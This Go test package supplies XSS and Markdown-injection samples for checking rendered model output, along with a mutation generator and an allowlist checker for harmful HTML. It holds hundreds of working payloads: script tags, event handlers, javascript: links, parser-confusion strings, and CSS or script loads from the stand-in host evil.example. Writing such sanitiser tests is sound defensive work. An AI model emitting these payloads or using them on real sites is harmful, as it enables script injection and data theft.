// Package markdowntest is what tests of rendered Markdown share: texts that try to smuggle
// something in, and what in HTML is harmless.
package markdowntest

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"

	"m40-llm/infer/fixtures"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// Samples is what a model could be made to write. Each would set the
// global pwned, open a dialog, change the page or ask another server, if it got
// through.
var Samples = slices.Concat(hostileSamples, hostileAddresses(), hostileElements(), hostileFences())

var hostileSamples = []string{
	`<script>pwned=1</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>pwned=1</scr</script>ipt>`,
	`<script/x>pwned=1</script>`,
	"<script\n>pwned=1</script\n>",
	`<img src=x onerror=pwned=1>`,
	`<img src="//evil.example/x.png">`,
	`<img/src=x/onerror=pwned=1>`,
	`<IMG SRC="javascript:pwned=1">`,
	`![x](https://evil.example/x.png)`,
	`![x](https://evil.example/x.png "onload=pwned=1")`,
	`![x][r]` + "\n\n" + `[r]: https://evil.example/x.png`,
	`![](javascript:pwned=1)`,
	`![" onerror="pwned=1](x)`,
	`![x](x" onerror="pwned=1)`,
	`![x](<x" onerror="pwned=1>)`,
	`[a](javascript:pwned=1)`,
	`[a](JaVaScRiPt:pwned=1)`,
	`[a](java` + "\t" + `script:pwned=1)`,
	`[a](&#106;avascript:pwned=1)`,
	`[a](&#x6A&#x61&#x76&#x61script:pwned=1)`,
	`[a](javascript&colon;pwned=1)`,
	`[a](\x01javascript:pwned=1)`,
	`[a](vbscript:pwned=1)`,
	`[a](data:text/html,<script>pwned=1</script>)`,
	`[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
	`[a](file:///etc/passwd)`,
	`[a](blob:https://evil.example/1)`,
	`[a](//evil.example/)`,
	`[a](https://evil.example/" onclick="pwned=1)`,
	`[a](https://evil.example/ "x\" onclick=\"pwned=1")`,
	`<a href="javascript:pwned=1">a</a>`,
	`<javascript:pwned=1>`,
	`<https://evil.example/"onmouseover="pwned=1>`,
	`https://evil.example/"onmouseover="pwned=1`,
	`[a]: javascript:pwned=1` + "\n\n" + `[a]`,
	`<svg onload=pwned=1>`,
	`<svg><script>pwned=1</script></svg>`,
	`<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>`,
	`<svg><use href="//evil.example/x.svg#x"/></svg>`,
	`<math><mi//xlink:href="data:x,<script>pwned=1</script>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></mglyph></table></mtext></math>`,
	`<iframe src="javascript:pwned=1"></iframe>`,
	`<iframe srcdoc="<script>pwned=1</script>"></iframe>`,
	`<object data="javascript:pwned=1"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<form action="//evil.example/"><input name=x><button>x</button></form>`,
	`<input autofocus onfocus=pwned=1>`,
	`<body onload=pwned=1>`,
	`<details open ontoggle=pwned=1>`,
	`<video><source onerror=pwned=1></video>`,
	`<audio src=x onerror=pwned=1>`,
	`<marquee onstart=pwned=1>`,
	`<style>@import url(//evil.example/x.css)</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<p style="background:url(//evil.example/x.png)">x</p>`,
	`<div style="position:fixed;inset:0">x</div>`,
	`<template><script>pwned=1</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
	`<!--><img src=x onerror=pwned=1>-->`,
	`<![CDATA[<img src=x onerror=pwned=1>]]>`,
	`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned=1</x:script>`,
	"```\"><img src=x onerror=pwned=1>\nx\n```",
	"```js\" onclick=\"pwned=1\n</code></pre><script>pwned=1</script>\n```",
	"`</code><script>pwned=1</script>`",
	"    </code></pre><script>pwned=1</script>",
	"| a |\n|---|\n| <img src=x onerror=pwned=1> |",
	"| <script>pwned=1</script> |\n|:-:|\n| x |",
	"# <img src=x onerror=pwned=1>",
	"> <script>pwned=1</script>",
	"1. <img src=x onerror=pwned=1>",
	"~~<svg onload=pwned=1>~~",
	"**<b onmouseover=pwned=1>x</b>**",
	"x\x00<script>pwned=1</script>",
	"\u202e<script>pwned=1</script>",
	"<scr\x00ipt>pwned=1</script>",
	"\xff\xfe<script>pwned=1</script>",
	"<img src=x\u3000onerror=pwned=1>",
	"&lt;script&gt;pwned=1&lt;/script&gt;",
	`<a id="location" name="cookie" class="btn primary" data-stop>x</a>`,
	`<span class="ctl" onclick=pwned=1>x</span>`,
	`<0@00>`,

	// Handlers that need no click.
	`<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`,
	`<svg><set attributeName=onmouseover to=pwned=1>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:pwned=1 /><a id=x><text y=9>x</text></a>`,
	`<svg><foreignObject><iframe onload=pwned=1></iframe></foreignObject></svg>`,
	`<svg><image href="//evil.example/x.png" onerror=pwned=1 />`,
	`<svg><feImage href="//evil.example/x.svg" />`,
	`<svg><style>@import "//evil.example/x.css";</style></svg>`,
	`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned=1</handler></svg>`,
	`<svg><discard onbegin=pwned=1>`,
	`<svg/onload=pwned=1//`,
	`<svg onload="alert(1)"`,
	`<svg><title><![CDATA[</title><img src=x onerror=pwned=1>]]></title></svg>`,
	`<svg><desc><img src=x onerror=pwned=1></desc></svg>`,
	`<math href="javascript:pwned=1">x</math>`,
	`<math><maction actiontype="statusline#//evil.example" xlink:href="javascript:pwned=1">x</maction></math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=pwned=1></annotation-xml></math>`,
	`<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>pwned=1</script></annotation-xml></semantics></math>`,
	`$<math><mi>x</mi></math>$`,
	`$$\href{javascript:pwned=1}{x}$$`,
	`$\unicode{<img src=x onerror=pwned=1>}$`,
	`\(<script>pwned=1</script>\)`,
	`<body onpageshow=pwned=1><body onhashchange=pwned=1>`,
	`<div onpointerrawupdate=pwned=1 style="position:fixed;inset:0">x</div>`,
	`<xss id=x tabindex=1 autofocus onfocus=pwned=1></xss>`,
	`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=pwned=1>x</p>`,
	`<p style="transition:all 1s" ontransitionend=pwned=1>x</p>`,
	`<dialog open onclose=pwned=1><form method=dialog><button autofocus>x</button></form></dialog>`,
	`<input popovertarget=x><div popover id=x onbeforetoggle=pwned=1>x</div>`,
	`<video autoplay onloadstart=pwned=1 src=x></video>`,
	`<video poster="//evil.example/x.png"></video>`,
	`<video><track default src="//evil.example/x.vtt" oncuechange=pwned=1></video>`,
	`<picture><source srcset="//evil.example/x.png"><img onerror=pwned=1></picture>`,
	`<img srcset="//evil.example/x.png 1x">`,
	`<img lowsrc="//evil.example/x.png" dynsrc="//evil.example/y.png">`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>">`,
	`<img src=x:x onerror=alert(document.domain)>`,
	"<img src=x onerror=`pwned=1`>",
	`<img src='x' onerror='pwned=1'`,
	`<img """><script>pwned=1</script>">`,
	`<img src=x onerror=&#112;&#119;&#110;&#101;&#100;=1>`,
	`<img src=x onerror=\u0070wned=1>`,
	"<img\tsrc=x\tonerror=pwned=1>",
	"<img\x0csrc=x\x0conerror=pwned=1>",
	"<img/\x00/src=x onerror=pwned=1>",
	"<\x00img src=x onerror=pwned=1>",
	`<<img src=x onerror=pwned=1>`,
	`<img src=x onerror=pwned=1 <p>`,
	`</p><img src=x onerror=pwned=1>`,
	`</div></article></main><script>pwned=1</script>`,
	`</template><script>pwned=1</script>`,
	`<script>pwned=1//`,
	`<script>alert(1)</script>`,
	`<script>confirm(1)</script>`,
	`<script>prompt(1)</script>`,
	`<script type=module>pwned=1</script>`,
	`<script type="text/plain" src="data:text/javascript,pwned=1"></script>`,
	`<script type=importmap>{"imports":{"./html.js":"//evil.example/x.js"}}</script>`,
	`<script nonce=x src=//evil.example/x.js async></script>`,
	`<script>/*` + "`" + `*/pwned=1</script>`,
	`<ScRiPt >pwned=1</sCrIpT >`,
	`<script/random>pwned=1</script/random>`,
	`<script><!--<script>pwned=1//--></script>`,

	// What one parser takes for text and the next for an element.
	`<noscript><p title="</noscript><svg onload=pwned=1>">`,
	`<textarea><p title="</textarea><img src=x onerror=pwned=1>">`,
	`<title><p title="</title><img src=x onerror=pwned=1>">`,
	`<xmp><p title="</xmp><img src=x onerror=pwned=1>">`,
	`<iframe><p title="</iframe><img src=x onerror=pwned=1>">`,
	`<noembed><p title="</noembed><img src=x onerror=pwned=1>">`,
	`<noframes><p title="</noframes><img src=x onerror=pwned=1>">`,
	`<style><p title="</style><img src=x onerror=pwned=1>">`,
	`<plaintext><img src=x onerror=pwned=1>`,
	`<listing>&lt;img src=x onerror=pwned=1&gt;</listing>`,
	`<select><style></select><img src=x onerror=pwned=1></style>`,
	`<select><option><img src=x onerror=pwned=1></option></select>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=1>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=pwned=1>">`,
	`<svg><p><style><g title="</style><img src=x onerror=pwned=1>">`,
	`<math><mi><b><style><b title="</style><img src=x onerror=pwned=1>">`,
	`<svg><![CDATA[><img src=x onerror=pwned=1>]]></svg>`,
	`<table><tr><td><svg><desc><table><tr><td><script>pwned=1</script>`,
	`<b><table><script>pwned=1</script></table></b>`,
	`<a><table><a href="javascript:pwned=1">x</a></table></a>`,
	`<!-- --!><img src=x onerror=pwned=1> -->`,
	`<!--> <script>pwned=1</script> -->`,
	`<!---><script>pwned=1</script>-->`,
	`<!-- <!-- --><script>pwned=1</script>`,
	`<!--[if gte IE 4]><script>pwned=1</script><![endif]-->`,
	`<!doctype html><script>pwned=1</script>`,
	`<!ENTITY x SYSTEM "file:///etc/passwd"><script>pwned=1</script>`,
	`<?php pwned=1 ?><script>pwned=1</script>`,
	`<?><img src=x onerror=pwned=1>`,
	`<%><img src=x onerror=pwned=1>%>`,
	`</ p><img src=x onerror=pwned=1>`,
	`<![CDATA[ ]]><script>pwned=1</script>`,
	`<](javascript:pwned=1)><img src=x onerror=pwned=1>`,
	`&lt;img src=x onerror=pwned=1&gt;`,
	`&#60;img src=x onerror=pwned=1&#62;`,
	`&#x3c;script&#x3e;pwned=1&#x3c;/script&#x3e;`,
	`&#0000060script&#0000062pwned=1`,
	`&amp;lt;script&amp;gt;pwned=1`,
	`&LT;script&GT;pwned=1&LT;/script&GT;`,
	`&NotEqualTilde;<script>pwned=1</script>&ThickSpace;`,
	"\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
	"+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
	"\xc0\xbcscript\xc0\xbepwned=1",
	"\xe2\x80<script>pwned=1</script>",
	"<scr\u200bipt>pwned=1</scr\u200bipt>",
	"<\u017fcript>pwned=1</\u017fcript>",
	"<IMG SRC=x ONERROR\u2028=pwned=1>",

	// What changes the page without a script.
	`<style>body{display:none}</style>`,
	`<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>`,
	`<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
	`<p style="background-image:image-set(url(//evil.example/x.png) 1x)">x</p>`,
	`<p style="list-style:url(//evil.example/x.png);behavior:url(#x)">x</p>`,
	`<p style="width:expression(pwned=1)">x</p>`,
	`<link rel=preload as=script href=//evil.example/x.js>`,
	`<link rel=modulepreload href=//evil.example/x.js>`,
	`<link rel=dns-prefetch href=//evil.example>`,
	`<link rel=preconnect href=//evil.example>`,
	`<link rel=icon href=//evil.example/x.ico>`,
	`<link rel=manifest href=//evil.example/x.json>`,
	`<meta http-equiv="refresh" content="0;url=javascript:pwned=1">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
	`<meta http-equiv="set-cookie" content="a=b">`,
	`<meta name="referrer" content="unsafe-url">`,
	`<base target="_self" href="javascript:/">`,
	`<form id=composer><input id=message></form>`,
	`<form action="javascript:pwned=1"><input type=submit autofocus></form>`,
	`<button form=composer formaction="javascript:pwned=1">x</button>`,
	`<input type=image src="//evil.example/x.png" formaction="javascript:pwned=1">`,
	`<input type=checkbox onclick=pwned=1 autofocus onfocus=pwned=1>`,
	`<isindex type=image src=x onerror=pwned=1>`,
	`<keygen autofocus onfocus=pwned=1>`,
	`<iframe src="//evil.example/"></iframe>`,
	`<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
	`<frameset onload=pwned=1><frame src="javascript:pwned=1"></frameset>`,
	`<object type="text/html" data="//evil.example/"></object>`,
	`<object data="data:text/html,<script>pwned=1</script>"></object>`,
	`<embed src="javascript:pwned=1">`,
	`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>">`,
	`<applet code="x" archive="//evil.example/x.jar"></applet>`,
	`<portal src="//evil.example/">`,
	`<fencedframe src="//evil.example/">`,
	`<bgsound src="//evil.example/x.mid">`,
	`<layer src="//evil.example/x.js"></layer>`,
	`<xml id=x src="//evil.example/x.xml"></xml>`,
	`<a ping="//evil.example/" href="https://b.example/">x</a>`,
	`<a href="https://b.example/" target="_top" rel="opener">x</a>`,
	`<a name=getElementById><a name=pwned id=pwned>x</a>`,
	`<slot name=x onslotchange=pwned=1></slot>`,
	`<div><template shadowrootmode=open><script>pwned=1</script></template></div>`,
	`<div is=x-x contenteditable onbeforeinput=pwned=1 autofocus>x</div>`,
	`<p aria-label="x" role="alert" tabindex=0 onfocus=pwned=1 autofocus>x</p>`,
	`<span class="c" onclick=pwned=1>x</span>`,
	`<div class="app" role="alert" tabindex="1" aria-label="Server">x</div>`,
	`<input type=checkbox aria-label="I agree" checked=javascript:pwned=1 disabled=false>`,
	`<input type=password name=key aria-label="API key">`,
	`<code class="language-js btn primary">x</code>`,
	`<table align=left><tr><td align=char class=k>x</td></tr></table>`,
	`<div class="table" role="region" tabindex="0" aria-label="Table" onfocus=pwned=1 autofocus>x</div>`,

	// Links, images and references.
	`[a](<javascript:pwned=1>)`,
	`[a]( javascript:pwned=1 )`,
	`[a](javascript:pwned=1 "x")`,
	"[a](<java\nscript:pwned=1>)",
	`[a](https://b.example/"><img/src=x/onerror=pwned=1>)`,
	`[a](https://b.example/'onmouseover='pwned=1)`,
	`[a](https://b.example/ '"><script>pwned=1</script>')`,
	`[<img src=x onerror=pwned=1>](https://b.example/)`,
	"[`</a><script>pwned=1</script>`](https://b.example/)",
	`[![x](javascript:pwned=1)](javascript:pwned=1)`,
	`[![x](https://evil.example/x.png)](https://evil.example/)`,
	`![<script>pwned=1</script>](https://evil.example/x.png)`,
	`![x](https://evil.example/x.png"onerror="pwned=1)`,
	`![x](//evil.example/x.png)`,
	`![x](\\evil.example\x.png)`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)`,
	`![a][b]` + "\n\n" + `[b]: javascript:pwned=1 "x"`,
	`[b]: <javascript:pwned=1> (x" onclick="pwned=1)` + "\n\n" + `[b] [b][] [a][b]`,
	`[<script>pwned=1</script>]: https://b.example/` + "\n\n" + `[<script>pwned=1</script>]`,
	`[a]: https://b.example/"onclick="pwned=1` + "\n\n" + `[a]`,
	`<http://b.example/?"onclick="pwned=1>`,
	`<https://b.example/?<script>pwned=1</script>>`,
	`<data:text/html,<script>pwned=1</script>>`,
	`<x@y.example"onclick="pwned=1>`,
	`<mailto:x@y.example?subject=<script>pwned=1</script>>`,
	`www.b.example/"onclick="pwned=1`,
	`https://b.example/<script>pwned=1</script>`,
	`https://b.example/?x=';pwned=1;'`,
	`http:javascript:pwned=1`,
	`javascript://b.example/%0apwned=1`,
	`[a](http:evil.example)`,
	`[a](http:///evil.example)`,
	`[a](https:/evil.example)`,
	`[a](http://evil.example\@b.example/)`,
	`[a](http://b.example:javascript:pwned=1/)`,
	`[a](HTTPS://evil.example/)`,
	`[a](http://[::1]:pwned/)`,
	`[a](#message)`,
	`[a](/login?next=//evil.example)`,
	`[a](?q=1)`,
	`[a](..\..\evil)`,
	`[a]()`,

	// Tables, lists, notes.
	"|<script>pwned=1</script>|<img src=x onerror=pwned=1>|\n|:-|-:|\n|[a](javascript:pwned=1)|![x](//evil.example/x.png)|",
	"|a|\n|-|\n|`</code><script>pwned=1</script>`|",
	"|a\" onclick=\"pwned=1|\n|:-:|\n|x|",
	"|a|\n|-|\n|</td></table><script>pwned=1</script>|",
	"|a|\n|-\" style=\"x|\n|b|",
	"x[^1]\n\n[^1]: <script>pwned=1</script>",
	"x[^<img src=x onerror=pwned=1>]\n\n[^<img src=x onerror=pwned=1>]: javascript:pwned=1",
	"x^[<script>pwned=1</script>]",
	"- [x] <script>pwned=1</script>",
	"- [ ] [a](javascript:pwned=1)",
	"- [<img src=x onerror=pwned=1>] x",
	"- [x]<input type=checkbox autofocus onfocus=pwned=1>",
	"99999999999999999999. <script>pwned=1</script>",
	"Term\n: <script>pwned=1</script>",
	"# x {#x onclick=pwned=1}",
	"# x {onclick=\"pwned=1\" .btn}",
	"[x]{onclick=pwned=1}",
	"---\ntitle: <script>pwned=1</script>\n---",
	"<script>pwned=1</script>\n===",
	":smile:<script>pwned=1</script>",
	"==<mark onclick=pwned=1>==",
	"\\<script>pwned=1</script>",
	"\\`<script>pwned=1</script>\\`",
	"``<script>pwned=1</script>`",
	"*<img src=x onerror=pwned=1>*",
	"***__~~<script>pwned=1</script>~~__***",
	"> > > <iframe src=//evil.example/>",
	"    <script>pwned=1</script>\n\n<script>pwned=1</script>",
	"\t</code></pre><script>pwned=1</script>",
}

// hostileAddresses are addresses that must not become links, however they are
// written.
func hostileAddresses() (payloads []string) {
	for _, address := range []string{
		`javascript:alert(1)`, `JAVASCRIPT:alert(1)`, `javascript&#58;alert(1)`, `javascript&#x3A;alert(1)`, `javascript&#0058;alert(1)`,
		`&#x6a;avascript:alert(1)`, `&#X6A;&#X61;vascript:alert(1)`, `java&Tab;script:alert(1)`, `java&NewLine;script:alert(1)`, `&Tab;javascript:alert(1)`,
		`java%73cript:alert(1)`, `javascript%3Aalert(1)`, `%6aavascript:alert(1)`, `\javascript:alert(1)`, `java\script:alert(1)`,
		"\x01javascript:alert(1)", "java\x00script:alert(1)", "\u2028javascript:alert(1)", "java\u00adscript:alert(1)", "\ufeffjavascript:alert(1)",
		"\u00a0javascript:alert(1)", "javascript\uff1aalert(1)", `feed:javascript:alert(1)`, `view-source:javascript:alert(1)`, `jar:javascript:alert(1)!/`,
		`livescript:alert(1)`, `mocha:alert(1)`, `VBScript:msgbox(1)`, `data:text/html,%3Cscript%3Epwned=1%3C/script%3E`, `data:,alert(1)`,
		`DATA:text/html;charset=utf-7,+ADw-script+AD4-`, `data:application/xhtml+xml,<x/>`, `blob:null/1`, `filesystem:https://evil.example/x`, `about:blank`,
		`chrome://settings`, `ms-settings:`, `intent://evil.example#Intent;end`, `tel:1`, `ftp://evil.example/x`, `ws://evil.example/`, `file:///C:/x`,
		`//evil.example/x`, `///evil.example/x`, `/\evil.example/x`, `\\evil.example\x`, `http://`, `https:evil.example`,
	} {
		payloads = append(payloads, "[a]("+address+")", "![a](<"+address+">)")
	}
	return payloads
}

// hostileElements are elements that run a handler by themselves.
func hostileElements() (payloads []string) {
	for _, element := range []string{
		"audio src=x", "body", "details open", "embed src=x", "iframe", "image src=x", "img src=x", "input autofocus", "link rel=stylesheet href=x",
		"marquee", "object data=x", "script src=x", "style", "svg", "textarea autofocus", "video src=x",
	} {
		for _, handler := range []string{"onload", "onerror", "onfocus"} {
			payloads = append(payloads, "<"+element+" "+handler+"=alert(1)>")
		}
	}
	return payloads
}

// hostileFences are code blocks: what is after the fence, and code that leads a
// lexer to cut where another element could begin.
func hostileFences() (payloads []string) {
	for _, info := range []string{
		`js"><script>pwned=1</script>`, `"onclick="pwned=1`, `js onclick=pwned=1`, `{.js onclick="pwned=1"}`, `js'><img src=x onerror=pwned=1>`, `&quot;&gt;&lt;script&gt;`,
		`</code></pre><script>pwned=1</script>`, "language-js\u2028onclick=pwned=1", strings.Repeat("x", 300), "../../static/app.js", "html-", `\"\>`, "c++<b>", "*.go", "[a-z]", "ctl", "k",
	} {
		payloads = append(payloads, "```"+info+"\nx\n```", "~~~"+info+"\nx\n~~~")
	}
	for _, language := range []string{"html", "xml", "svg", "javascript", "jsx", "css", "php", "markdown", "go", "python", "sql", "bash", "diff", "yaml", "json", "latex", "klingon"} {
		payloads = append(payloads, "```"+language+"\n</span></code></pre><script>pwned=1</script><img src=x onerror=pwned=1>\n\"</span><svg onload=pwned=1>\" '</code>' `</pre>` /* --> */ <!-- x\n```")
	}
	return payloads
}

// Harmless is every element that an answer may have, and the attributes of each.
var Harmless = map[string]string{
	"p": "", "br": "", "hr": "", "h1": "", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "", "em": "", "strong": "", "del": "", "blockquote": "",
	"ul": "", "ol": "start", "li": "", "pre": "", "code": "class", "span": "class", "table": "", "thead": "", "tbody": "", "tr": "", "th": "align", "td": "align",
	"div": "class role tabindex aria-label", "input": "type checked disabled aria-label", "a": "href rel target",
	"details": "class", "summary": "",
	"math": "display", "mrow": "", "mi": "", "mn": "", "mo": "stretchy movablelimits", "mtext": "", "mspace": "width", "mfrac": "linethickness", "msqrt": "", "mroot": "", "msub": "", "msup": "",
	"msubsup": "", "munder": "", "mover": "accent", "munderover": "", "mtable": "class", "mtr": "", "mtd": "",
}

// HarmlessValues are the values that the attributes may have. Those of class and
// aria-label depend on the element.
var HarmlessValues = map[string]*regexp.Regexp{
	"start": regexp.MustCompile(`^\d{1,9}$`), "align": regexp.MustCompile(`^(left|center|right)$`), "href": regexp.MustCompile(`^(https?://[^/]|mailto:)`),
	"rel": regexp.MustCompile(`^nofollow noreferrer( noopener)?$`), "target": regexp.MustCompile(`^_blank$`), "type": regexp.MustCompile(`^checkbox$`),
	"checked": regexp.MustCompile(`^$`), "disabled": regexp.MustCompile(`^$`), "role": regexp.MustCompile(`^region$`), "tabindex": regexp.MustCompile(`^0$`),
	"code class": regexp.MustCompile(`^language-[^\s"'<>&]+$`), "span class": regexp.MustCompile(`^(ctl|k|s|c|gi|gd)$`), "div class": regexp.MustCompile(`^table$`),
	"display": regexp.MustCompile(`^block$`), "stretchy": regexp.MustCompile(`^(true|false)$`), "movablelimits": regexp.MustCompile(`^true$`), "accent": regexp.MustCompile(`^true$`),
	"linethickness": regexp.MustCompile(`^0$`), "width": regexp.MustCompile(`^-?[0-9.]{1,5}em$`), "mtable class": regexp.MustCompile(`^(aligned|cases)$`),
	"details class":  regexp.MustCompile(`^thought$`),
	"div aria-label": regexp.MustCompile(`^Table$`), "input aria-label": regexp.MustCompile(`^(done|to do)$`),
}

// Harms returns what is wrong with HTML, as a browser would read it.
func Harms(rendered string) string {
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(rendered), body)
	if err != nil {
		return err.Error()
	}
	for _, node := range nodes {
		body.AppendChild(node)
	}
	for node := range body.Descendants() {
		if harm := harmOf(node); harm != "" {
			return harm
		}
	}
	return ""
}

func harmOf(node *html.Node) string {
	switch node.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return "a comment or doctype"
	}
	attributes, known := Harmless[node.Data]
	// An element of MathML outside of a math element means nothing to a browser.
	if !known || node.Namespace != "" && (node.Namespace != "math" || !strings.HasPrefix(node.Data, "m")) {
		return "the element " + node.Namespace + " " + node.Data
	}
	values := map[string]string{}
	for _, a := range node.Attr {
		allowed := HarmlessValues[a.Key]
		if allowed == nil {
			allowed = HarmlessValues[node.Data+" "+a.Key]
		}
		if !slices.Contains(strings.Fields(attributes), a.Key) || a.Namespace != "" || !allowed.MatchString(a.Val) {
			return fmt.Sprintf("the attribute %s=%q of %s", a.Key, a.Val, node.Data)
		}
		values[a.Key] = a.Val
	}
	mail := strings.HasPrefix(values["href"], "mailto:") // opens no page, so there is no opener
	if node.Data == "a" && (values["rel"] == "" || !mail && !strings.HasSuffix(values["rel"], " noopener")) {
		return fmt.Sprintf("a link with rel=%q", values["rel"])
	}
	return ""
}

// Mutants returns n payloads made of the listed ones: cut, joined, put inside of
// something, and written in another way. The same n gives the same.
func Mutants(n int) []string {
	r := rand.New(rand.NewPCG(40, 52))
	pick := func(from []string) string { return from[r.IntN(len(from))] }
	change := []func(string) string{
		func(s string) string { // another case
			return strings.Map(func(c rune) rune {
				if r.IntN(2) == 0 {
					return []rune(strings.ToUpper(string(c)))[0]
				}
				return c
			}, s)
		},
		func(s string) string { // a character that parsers skip or take for a space
			at := r.IntN(len(s) + 1)
			return s[:at] + pick([]string{"\x00", "\t", "\n", "\r", "\x0c", "/", "\u00a0", "\u2028", "\u200d", "\u202e", "\\", "&", "<", ">", "`", "\"", "'", "]", "[", "--", "|"}) + s[at:]
		},
		func(s string) string { // an entity in the place of a character
			at := r.IntN(len(s))
			return s[:at] + pick([]string{"&#%d;", "&#x%x;", "&#X%06X", "&#0%d"}) + s[at+1:]
		},
		func(s string) string { return s[:r.IntN(len(s))] },
		func(s string) string { return s[r.IntN(len(s)):] },
		func(s string) string { return s + pick([]string{"", "\n", "\n\n", " "}) + pick(Samples) },
		func(s string) string {
			other := pick(Samples)
			at := r.IntN(len(s) + 1)
			return s[:at] + other[r.IntN(len(other)):] + s[at:]
		},
		func(s string) string {
			around := pick([]string{"> %s", "- %s", "1. %s", "# %s", "**%s**", "~~%s~~", "`%s`", "[%s](https://b.example/)", "![%s](https://b.example/)", "[a](%s)", "<%s>", "<b title=\"%s\">",
				"|a|\n|-|\n|%s|", "- [ ] %s", "```html\n%s\n```", "```js %s\nx\n```", "<!--%s-->", "<svg>%s</svg>", "<math><mtext>%s", "<![CDATA[%s]]>", "[a]: %s\n\n[a]", "$%s$"})
			return strings.Replace(around, "%s", s, 1)
		},
	}
	found := map[string]bool{}
	var payloads []string
	for len(payloads) < n {
		s := pick(Samples)
		for range 1 + r.IntN(4) {
			if s != "" {
				s = change[r.IntN(len(change))](s)
			}
		}
		for _, verb := range []string{"%d", "%x", "%06X"} {
			s = strings.ReplaceAll(s, verb, fmt.Sprintf(verb, 'j'))
		}
		if s != "" && !found[s] {
			found[s] = true
			payloads = append(payloads, s)
		}
	}
	return payloads
}

// Payloads are the payloads of this run.
func Payloads() []string {
	if fixtures.Torture() {
		return slices.Concat(Samples, Mutants(3000-len(Samples)))
	}
	return Samples
}
